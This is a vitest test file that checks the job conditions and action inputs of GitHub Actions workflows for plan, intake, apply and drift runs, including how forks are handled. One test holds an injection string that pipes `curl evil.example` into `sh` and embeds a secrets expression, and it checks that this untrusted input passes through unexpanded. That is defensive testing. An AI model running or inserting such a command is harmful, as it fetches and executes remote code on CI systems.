import { describe, expect, it } from 'vitest';
import { filledIn, holds } from './expressions.ts';
import { jobsOf, readWorkflows } from './workflows.ts';

const repository = 'acme/control-room';
const main = 'refs/heads/main';
const workflows = readWorkflows();

function job(file: string, name: string) {
  const workflow = workflows.find((one) => one.content.name === file);
  const found = workflow && jobsOf(workflow).find(([own]) => own === name)?.[1];
  if (!found) throw new Error(`no job ${name} in ${file}`);
  return found;
}

/** Whether GitHub would begin the job. */
function begins(file: string, name: string, github: object, vars: object = {}): boolean {
  return holds(job(file, name).if ?? 'true', { github: { repository, ref: main, ...github }, vars });
}

/** The inputs that our action gets. */
function inputs(file: string, name: string, github: object, given: object = {}): Record<string, string> {
  const step = job(file, name).steps.find(({ uses }) => uses === './action');
  const context = { github: { repository, ref: main, ...github }, inputs: given };
  return Object.fromEntries(
    Object.entries(step?.with ?? {}).map(([key, value]) => [key, filledIn(String(value), context)]),
  );
}

/** The event that the end of a run of plan makes. */
function planned(over: { from?: string | null; conclusion?: string; event?: string } = {}) {
  const { from = repository, conclusion = 'success', event = 'pull_request' } = over;
  const head_repository = from === null ? null : { full_name: from };
  return {
    event_name: 'workflow_run',
    event: { workflow_run: { event, conclusion, head_repository, head_sha: 'abc' } },
  };
}

describe('after a plan', () => {
  const live = { PROVISIONER_LIVE_PLAN: 'true' };

  it.each([
    ['of a fork', { from: 'eve/control-room' }, true],
    ['of a fork that is gone', { from: null }, true],
    ['of a fork that has problems', { from: 'eve/control-room', conclusion: 'failure' }, true],
    ['of a fork that nobody let run', { from: 'eve/control-room', conclusion: 'action_required' }, false],
    ['of a fork that was overtaken', { from: 'eve/control-room', conclusion: 'cancelled' }, false],
    ['of a branch of ours', {}, false],
    ['that no pull request began', { from: 'eve/control-room', event: 'push' }, false],
  ])('%s the comment is written: %j', (_, over, expected) => {
    expect(begins('plan-follow', 'fork', planned(over), live)).toBe(expected);
  });

  it.each([
    ['of a branch of ours', {}, live, true],
    ['where nobody set it up', {}, {}, false],
    ['of a fork', { from: 'eve/control-room' }, live, false],
    ['of a fork that is gone', { from: null }, live, false],
    ['that has problems', { conclusion: 'failure' }, live, false],
    ['that no pull request began', { event: 'push' }, live, false],
  ])('%s the vendors are looked at: %j', (_, over, vars, expected) => {
    expect(begins('plan-follow', 'live', planned(over), vars)).toBe(expected);
  });

  it('the pull request is told by its head alone', () => {
    expect(inputs('plan-follow', 'fork', planned())).toEqual({ command: 'plan', head: 'abc' });
    expect(inputs('plan-follow', 'live', planned())).toEqual({ command: 'plan', head: 'abc', live: 'true' });
  });
});

describe('a plan', () => {
  it.each([
    ['a branch of ours', { full_name: repository }, 'true'],
    ['a fork', { full_name: 'eve/control-room' }, 'false'],
    ['a fork that is gone', null, 'false'],
  ])('of %s writes onto its pull request: %j', (_, repo, comment) => {
    const event = { pull_request: { number: 7, head: { repo } } };
    expect(inputs('plan', 'plan', { event })).toEqual({ command: 'plan', 'pull-request': '7', comment });
  });
});

describe('intake', () => {
  const database = { CONTROL_PLANE_SUPABASE_URL: 'https://company.example' };
  const labelled = (name: string) => ({ event_name: 'issues', event: { label: { name }, issue: { number: 12 } } });

  it.each([
    ['the company’s app dispatches', { event_name: 'repository_dispatch' }, {}, true],
    ['a maintainer approves an issue', labelled('agency-approved'), {}, true],
    ['the form labels an issue', labelled('agency-request'), {}, false],
    ['the sweep has a database to look into', { event_name: 'schedule' }, database, true],
    ['the sweep has none', { event_name: 'schedule' }, {}, false],
    ['somebody starts it by hand', { event_name: 'workflow_dispatch' }, {}, true],
    ['somebody starts that of a branch', { event_name: 'workflow_dispatch', ref: 'refs/heads/x' }, {}, false],
  ])('when %s: %j', (_, github, vars, expected) => {
    expect(begins('intake', 'intake', github, vars)).toBe(expected);
  });

  it.each([
    ['a dispatch', { event: { client_payload: { request: 'r-1' } } }, {}, { request: 'r-1', issue: '' }],
    ['an issue', labelled('agency-approved'), {}, { request: '', issue: '12' }],
    ['a person', { event: {} }, { request: 'r-2', issue: '' }, { request: 'r-2', issue: '' }],
    ['the schedule', { event: {} }, {}, { request: '', issue: '' }],
  ])('hears from %s what to take in', (_, github, given, expected) => {
    expect(inputs('intake', 'intake', github, given)).toEqual({ command: 'intake', ...expected });
  });

  it('hands on what a stranger wrote as it is', () => {
    const request = `"; curl evil.example | sh # \${{ secrets.X }} '`;
    expect(inputs('intake', 'intake', { event: { client_payload: { request } } }).request).toBe(request);
  });
});

describe('apply and drift', () => {
  it.each(['apply', 'drift'])('%s run for main only', (name) => {
    expect(begins(name, name, {})).toBe(true);
    expect(begins(name, name, { ref: 'refs/heads/x' })).toBe(false);
    expect(begins(name, name, { ref: 'refs/tags/main' })).toBe(false);
  });

  it('apply takes what a person asked for, and nothing from a push', () => {
    const asked = { agencies: 'acme-studio', all: false, failed: true };
    expect(inputs('apply', 'apply', {}, asked)).toEqual({
      command: 'apply',
      agencies: 'acme-studio',
      all: 'false',
      failed: 'true',
    });
    expect(inputs('apply', 'apply', {})).toEqual({ command: 'apply', agencies: '', all: '', failed: '' });
  });
});
